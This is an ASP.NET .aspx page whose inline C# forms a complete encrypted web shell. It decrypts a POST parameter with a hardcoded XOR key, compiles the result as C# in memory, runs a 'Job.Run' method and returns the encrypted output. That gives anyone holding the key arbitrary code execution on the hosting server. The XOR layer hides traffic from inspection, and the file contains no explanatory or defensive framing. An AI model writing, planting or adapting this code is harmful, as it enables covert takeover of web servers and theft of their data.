<%@ Import Namespace="System.Text" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<script Language="c#" runat="server">
byte[] Mix(byte[] d, string k) {
    byte[] kb = Encoding.UTF8.GetBytes(k);
    byte[] o = new byte[d.Length];
    for (int i = 0; i < d.Length; i++) o[i] = (byte)(d[i] ^ kb[i % kb.Length]);
    return o;
}
void Page_Load(object sender, EventArgs e) {
    string k = "s3cr3t";
    if (Request.Form["q"] == null) return;
    string src = Encoding.UTF8.GetString(Mix(Convert.FromBase64String(Request.Form["q"]), k));
    CompilerParameters cp = new CompilerParameters();
    cp.GenerateInMemory = true;
    cp.GenerateExecutable = false;
    CompilerResults cr = new CSharpCodeProvider().CompileAssemblyFromSource(cp, src);
    object inst = cr.CompiledAssembly.CreateInstance("Job");
    object res = inst.GetType().GetMethod("Run").Invoke(inst, null);
    Response.Write(Convert.ToBase64String(Mix((byte[])res, k)));
}
</script>
